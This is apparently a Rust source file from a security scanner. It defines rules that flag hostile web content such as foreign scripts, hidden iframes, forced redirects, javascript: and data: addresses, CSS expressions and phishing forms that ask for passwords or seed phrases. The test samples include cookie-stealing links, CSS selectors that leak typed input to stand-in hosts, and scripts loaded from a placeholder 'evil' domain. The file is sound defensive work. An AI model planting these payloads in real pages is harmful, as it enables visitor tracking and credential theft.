//! Pages: what they load, where they lead, and what they ask for.

use super::{
    Rule,
    forms::{self, PHISHING},
};
use crate::guard::{
    fact::Call,
    found::Found,
    hosts,
    read::Language,
    read::html::{Element, unescape},
    value::Value,
    verdict::Severity,
};

pub static FOREIGN_SCRIPT: Rule = Rule {
    id: "page-foreign-script",
    severity: Severity::Block,
    why: "whoever owns that host runs code in the page of every visitor",
    remedy: "put the script into the app, or take it from a well-known host of libraries",
    finds: &[
        (
            "x.js",
            "document.head.append(Object.assign(document.createElement('script'), { src: 'https://c.example.net/a' }))",
        ),
        ("x.tsx", "export const A = () => <Script src=\"https://c.example.net/a.js\" />;"),
        ("x.html", "<script src=\"https://cdn.evil-analytics.example/t.js\"></script>"),
        ("x.html", "<SCRIPT/SRC=//45.33.32.156/a.js></SCRIPT>"),
        (
            "x.js",
            "const s = document.createElement('script'); s.src = 'https://c.example.net/a.js'; document.head.append(s)",
        ),
        ("x.js", "document.write('<script src=\"https://c.example.net/a.js\"></script>')"),
        ("x.js", "import('https://c.example.net/a.js')"),
    ],
    spares: &[
        (
            "x.html",
            "<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script src=\"app.js\"></script><script src=\"/lib/a.js\"></script>",
        ),
        ("x.js", "import React from 'https://esm.sh/react@18'; img.src = 'https://picsum.photos/200';"),
    ],
};
pub static REDIRECT: Rule = Rule {
    id: "page-redirect",
    severity: Severity::Block,
    why: "visitors are led to another site than the one they asked for",
    remedy: "link to the other site, and let visitors choose",
    finds: &[
        ("x.html", "<meta http-equiv=refresh content=\"0;url=https://c.example.net\">"),
        ("x.html", "<base href=\"https://c.example.net/\">"),
        ("x.html", "<iframe src=\"https://c.example.net\" style=\"display:none\"></iframe>"),
    ],
    spares: &[
        ("x.html", "<meta http-equiv=refresh content=30><base href=\"/\"><a href=\"https://example.org\">x</a>"),
        ("x.html", "<iframe src=\"https://www.youtube.com/embed/x\" width=560></iframe>"),
    ],
};
pub static SCRIPT_URL: Rule = Rule {
    id: "page-script-address",
    severity: Severity::Block,
    why: "an address that is a program hides it from whoever reads scripts",
    remedy: "put the code into a script, and attach it to an event",
    finds: &[
        ("x.html", "<a href=\"java&#115;cript:steal(document.cookie)\">x</a>"),
        ("x.html", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
        ("x.html", "<object data=\"data:text/html,<script>x()</script>\"></object>"),
    ],
    spares: &[(
        "x.html",
        "<a href=\"javascript:void(0)\">x</a><a href=\"javascript:;\">y</a><img src=\"data:image/png;base64,AA==\">",
    )],
};
pub static STYLE_CODE: Rule = Rule {
    id: "style-code",
    severity: Severity::Block,
    why: "a style sheet should not run code",
    remedy: "put the code into a script",
    finds: &[("x.css", "a { width: expression(alert(1)) }"), ("x.css", "a { background: \\75 rl(java\\73 cript:x) }")],
    spares: &[("x.css", "a { scroll-behavior: smooth; } /* expression( */")],
};
pub static STYLE_SPY: Rule = Rule {
    id: "style-spy",
    severity: Severity::Block,
    why: "it tells another site what a visitor types",
    remedy: "remove the selector, or the address",
    finds: &[
        ("x.css", "@font-face { font-family: a; src: url(https://c.example.net/f?A); unicode-range: U+0041; }"),
        ("x.css", "input[value^=a] { background: url(https://c.example.net/a) }"),
    ],
    spares: &[("x.css", "input[type=text] { background: url(/img/a.png) } a[href^='https:'] { color: red }")],
};
pub static STYLE_FOREIGN: Rule = Rule {
    id: "style-foreign",
    severity: Severity::Block,
    why: "whoever owns that host can change the page",
    remedy: "put the style sheet into the app",
    finds: &[("x.css", "@import url('https://c.example.net/a.css');")],
    spares: &[("x.css", "@import url('https://fonts.googleapis.com/css2?family=Inter'); @import 'base.css';")],
};

pub(super) const RULES: &[&Rule] =
    &[&FOREIGN_SCRIPT, &PHISHING, &REDIRECT, &SCRIPT_URL, &STYLE_CODE, &STYLE_SPY, &STYLE_FOREIGN];

/// What is known of the form that is open.
#[derive(Default)]
pub(in crate::guard) struct Page {
    form: Option<Option<String>>,
    secret: Option<&'static str>,
    /// It has fields, and whether one of them is seen.
    fields: bool,
    seen: bool,
}

impl Page {
    pub fn judge(&mut self, element: &Element, line: usize, found: &mut Found<'_>) {
        match element.name.as_str() {
            "script" => script(element, line, found),
            "form" => {
                self.close_form(line, found);
                self.form = Some(element.get("action").and_then(foreign));
                (self.fields, self.seen) = (false, false);
            }
            "input" | "textarea" => {
                self.fields = true;
                self.seen |= !element.get("type").is_some_and(|kind| kind.eq_ignore_ascii_case("hidden"));
                self.secret = self.secret.or_else(|| asks_for(element));
                found.asks_secret |= self.secret.is_some();
            }
            "meta" if element.get("http-equiv").is_some_and(|name| name.eq_ignore_ascii_case("refresh")) => {
                let content = element.get("content").unwrap_or_default();
                if let Some((_, url)) = content.split_once('=') {
                    address(url.trim_matches(['\'', '"', ' ']), line, found);
                }
                if let Some(host) =
                    content.split_once('=').and_then(|(_, url)| foreign(url.trim_matches(['\'', '"', ' '])))
                {
                    found.add(&REDIRECT, line, &format!("the page goes to {host} by itself"));
                }
            }
            "base" => {
                if let Some(host) = element.get("href").and_then(foreign) {
                    found.add(&REDIRECT, line, &format!("all that the page loads comes from {host}"));
                }
            }
            "button" | "select" => self.seen = true,
            "iframe" | "frame" | "embed" | "object" => frame(element, line, found),
            _ => {}
        }
        if let Some(host) = element.get("formaction").and_then(foreign) {
            // A button may lie outside of the form that it sends.
            if self.secret.is_none() && found.asks_secret {
                found.add(&PHISHING, line, &format!("what the form asks for goes to {host}"));
            }
            self.form = Some(Some(host));
        }
        attributes(element, line, found);
    }

    /// A form ends: what it asks for and where that goes are known.
    pub fn close_form(&mut self, line: usize, found: &mut Found<'_>) {
        if let (Some(Some(host)), secret) = (self.form.take(), self.secret.take()) {
            found.moved.hidden |= self.fields && !self.seen;
            forms::sent(found);
            match secret {
                Some(what) => found.add(&PHISHING, line, &format!("{what} goes to {host}")),
                None => found.hint(&PHISHING, line, &format!("a form goes to {host}")),
            }
        }
    }
}

/// The host of an address that is not the app's own.
pub(super) fn foreign(address: &str) -> Option<String> {
    hosts::of(address.trim()).filter(|host| !hosts::is_local(host))
}

fn asks_for(element: &Element) -> Option<&'static str> {
    let name = [element.get("name"), element.get("id"), element.get("placeholder"), element.get("autocomplete")]
        .into_iter()
        .flatten()
        .collect::<Vec<_>>()
        .join(" ")
        .to_ascii_lowercase();
    if element.get("type").is_some_and(|kind| kind.eq_ignore_ascii_case("password")) || name.contains("passw") {
        return Some("a password");
    }
    let card = [
        "card",
        "cvv",
        "cvc",
        "iban",
        "ssn",
        "social security",
        "seed phrase",
        "seed_phrase",
        "mnemonic",
        "private key",
        "private_key",
        "otp",
        "one-time",
        "pin code",
    ];
    card.iter().any(|word| name.contains(word)).then_some("a number or phrase of money")
}

fn script(element: &Element, line: usize, found: &mut Found<'_>) {
    for name in ["src", "href", "xlink:href"] {
        let host: Option<String> = element.get(name).and_then(foreign);
        if let Some(host) = host {
            super::network::place(&host, line, found);
            super::network::words(&host, line, found);
            found.egress(host.clone());
            if !hosts::is_library_host(&host) {
                found.add(&FOREIGN_SCRIPT, line, &format!("a script comes from {host}"));
            }
        }
    }
}

/// Where the names lead that a page's modules are loaded by.
pub(in crate::guard) fn import_map(text: &str, line: usize, found: &mut Found<'_>) {
    for host in text.split('"').filter_map(foreign) {
        found.egress(host.clone());
        if !hosts::is_library_host(&host) {
            found.add(&FOREIGN_SCRIPT, line, &format!("modules come from {host}"));
        }
    }
}

fn frame(element: &Element, line: usize, found: &mut Found<'_>) {
    let address = ["src", "data"].iter().find_map(|name| element.get(name)).unwrap_or_default();
    let Some(host) = foreign(address) else { return };
    let style = element.get("style").unwrap_or_default().replace(' ', "").to_ascii_lowercase();
    let small = |name: &str| element.get(name).is_some_and(|size| matches!(size.trim_end_matches("px"), "0" | "1"));
    let hidden = style.contains("display:none")
        || style.contains("visibility:hidden")
        || style.contains("opacity:0;")
        || style.ends_with("opacity:0")
        || style.contains("left:-9")
        || small("width")
        || small("height")
        || element.get("hidden").is_some();
    let object = matches!(element.name.as_str(), "embed" | "object");
    if element.name == "iframe" {
        found.ending.frame.get_or_insert_with(|| (host.clone(), line));
        found.ending.name_frame([element.get("class"), element.get("id")]);
    }
    if hidden || object && !hosts::is_frame_host(&host) {
        found.add(&REDIRECT, line, &format!("a frame that nobody sees shows {host}"));
    } else if !hosts::is_frame_host(&host) {
        found.hint(&REDIRECT, line, &format!("a frame shows {host}"));
    }
}

/// Handlers, addresses and whole pages in attributes.
fn attributes(element: &Element, line: usize, found: &mut Found<'_>) {
    for (name, value) in &element.attributes {
        if name.starts_with("on") && name.len() > 3 {
            found.nest(Language::JavaScript, value, line);
        } else if name == "style" {
            found.nest(Language::Css, &format!("x{{{value}}}"), line);
        } else if name == "srcdoc" {
            found.nest(Language::Html, value, line);
        } else if matches!(
            name.as_str(),
            "src"
                | "href"
                | "data"
                | "action"
                | "formaction"
                | "xlink:href"
                | "poster"
                | "srcset"
                | "to"
                | "from"
                | "values"
        ) {
            address(value, line, found);
        }
    }
}

/// An address that is a program, and hosts that are named.
fn address(value: &str, line: usize, found: &mut Found<'_>) {
    let plain: String = value.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
    let lower = plain.to_ascii_lowercase();
    if let Some(code) = lower.strip_prefix("javascript:").or_else(|| lower.strip_prefix("vbscript:")) {
        let idle = matches!(
            code,
            "" | ";"
                | "void(0)"
                | "void(0);"
                | "void0"
                | "history.back()"
                | "history.back();"
                | "window.print()"
                | "window.print();"
                | "//"
        );
        if !idle {
            found.add(&SCRIPT_URL, line, "a javascript: address");
            found.nest(Language::JavaScript, &plain["javascript:".len().min(plain.len())..], line);
        }
    }
    if let Some(data) = lower
        .strip_prefix("data:text/html")
        .or_else(|| lower.strip_prefix("data:application/javascript"))
        .or_else(|| lower.strip_prefix("data:text/javascript"))
    {
        found.add(&SCRIPT_URL, line, "a data: address that is a page or a script");
        let body = plain.get(plain.len() - data.len()..).unwrap_or_default();
        let text = match body.split_once("base64,") {
            Some((_, encoded)) => crate::guard::decode::base64(encoded).unwrap_or_default(),
            None => body.split_once(',').map_or_else(String::new, |(_, text)| {
                percent_encoding::percent_decode_str(text).decode_utf8_lossy().into_owned()
            }),
        };
        found.nest(Language::Html, &unescape(&text), line);
    }
    for host in hosts::named(value).into_iter().chain(foreign(value)) {
        super::network::place(&host, line, found);
        found.egress(host);
    }
}

pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
    if matches!(call.path, "document.write" | "document.writeln") || call.method() == "insertAdjacentHTML" {
        for text in call.args.iter().filter_map(Value::as_text).filter(|text| text.contains('<')) {
            found.nest(Language::Html, text, line);
        }
    }
    if call.method() == "setAttribute"
        && let (Some(name), Some(value)) = (call.text(0), call.arg(1))
    {
        assign(&format!("{}.{name}", call.path.trim_end_matches(".setAttribute")), value, line, found);
    }
    if found.asks_secret
        && call.method() == "open"
        && call.text(0).is_some_and(|method| method.eq_ignore_ascii_case("POST"))
        && let Some(host) = call.text(1).and_then(foreign)
    {
        found.add(&PHISHING, line, &format!("what the page asks for goes to {host}"));
    }
}

pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
    forms::assign(path, value, line, found);
    let Some(text) = value.as_text() else { return };
    if path.ends_with("innerHTML")
        || path.ends_with("outerHTML")
        || path.ends_with("srcdoc")
        || path.ends_with("__html")
    {
        if text.contains('<') {
            found.nest(Language::Html, text, line);
        }
    } else if path.ends_with(".src")
        && (path.starts_with(super::SCRIPT_ELEMENT)
            || path.starts_with("document.createElement()")
                && text.split(['?', '#']).next().unwrap_or_default().ends_with(".js"))
    {
        if let Some(host) = foreign(text)
            && !hosts::is_library_host(&host)
        {
            found.add(&FOREIGN_SCRIPT, line, &format!("a script comes from {host}"));
        }
    } else if path.ends_with(".onclick") || path.ends_with(".onerror") || path.ends_with(".onload") {
        found.nest(Language::JavaScript, text, line);
    } else if path.ends_with(".action")
        && let Some(host) = foreign(text)
    {
        let what = format!("a form goes to {host}");
        if found.asks_secret { found.add(&PHISHING, line, &what) } else { found.hint(&PHISHING, line, &what) }
    } else if path.starts_with("jsx.") && matches!(path, "jsx.href" | "jsx.src") {
        address(text, line, found);
    }
}

/// Pages that are written as texts of a program.
///
/// Returns whether it is one.
pub(super) fn text(text: &str, line: usize, found: &mut Found<'_>) -> bool {
    let lower = text.get(..512).unwrap_or(text);
    let page = ["<script", "<html", "<form", "<!DOCTYPE", "<iframe", "<body", "onerror=", "<SCRIPT", "<!doctype"]
        .iter()
        .any(|tag| lower.contains(tag));
    let page = page || text.contains("<script") || text.contains("<form");
    if page {
        found.nest_text(Language::Html, text, line);
    }
    page
}
